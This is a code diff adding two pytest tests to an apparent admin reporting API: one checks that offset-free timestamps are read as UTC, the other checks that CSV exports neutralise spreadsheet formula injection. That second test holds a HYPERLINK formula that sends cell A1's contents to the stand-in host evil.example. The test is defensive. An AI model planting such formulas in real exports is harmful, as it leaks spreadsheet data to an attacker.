@@ -102,3 +102,35 @@ async def test_a_filter_the_database_refuses_is_an_error_in_csv_too(
     assert download.status_code == page.status_code
     if page.status_code != 200:
         assert_envelope(download, page.status_code)
+
+
+async def test_a_time_without_an_offset_is_utc_on_every_report(
+    client: httpx.AsyncClient, app: FastAPI
+) -> None:
+    """`?from=2026-11-29` compared a naive time with stored aware ones: a 500, before."""
+    write_batch(app.state.components.sessions, _records())
+    bare = {"from": "2026-11-29T10:02:00", "to": "2026-11-29T11:00"}
+    utc = {"from": "2026-11-29T10:02:00+00:00", "to": "2026-11-29T11:00:00Z"}
+    assert (await client.get("/admin/v1/usage", params=bare)).json() == (
+        await client.get("/admin/v1/usage", params=utc)
+    ).json()
+    seen = (await client.get("/admin/v1/usage", params=bare)).json()["data"]
+    assert [r["request_id"] for r in seen] == ["r1", "r2"]
+    day = {"from": "2026-11-29", "to": "2026-11-30"}
+    for path in ("/admin/v1/spend", "/admin/v1/savings"):  # and /fleet: the same type
+        response = await client.get(path, params=day)
+        assert response.status_code == 200, (path, response.text)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+async def test_a_request_id_a_spreadsheet_would_run_is_text_in_the_csv(
+    client: httpx.AsyncClient, app: FastAPI, start: str
+) -> None:
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
+    write_batch(app.state.components.sessions, [entry(0, client_request_id=formula)])
+    download = await client.get("/admin/v1/usage", params={"format": "csv"})
+    (row,) = list(csv.DictReader(io.StringIO(download.text)))
+    assert row["client_request_id"] == "'" + formula  # shown as text, not run
+    assert row["cost_usd"] == "0.001"  # numbers stay numbers
+    shown = (await client.get("/admin/v1/usage")).json()["data"][0]
+    assert shown["client_request_id"] == formula  # the JSON keeps it as sent
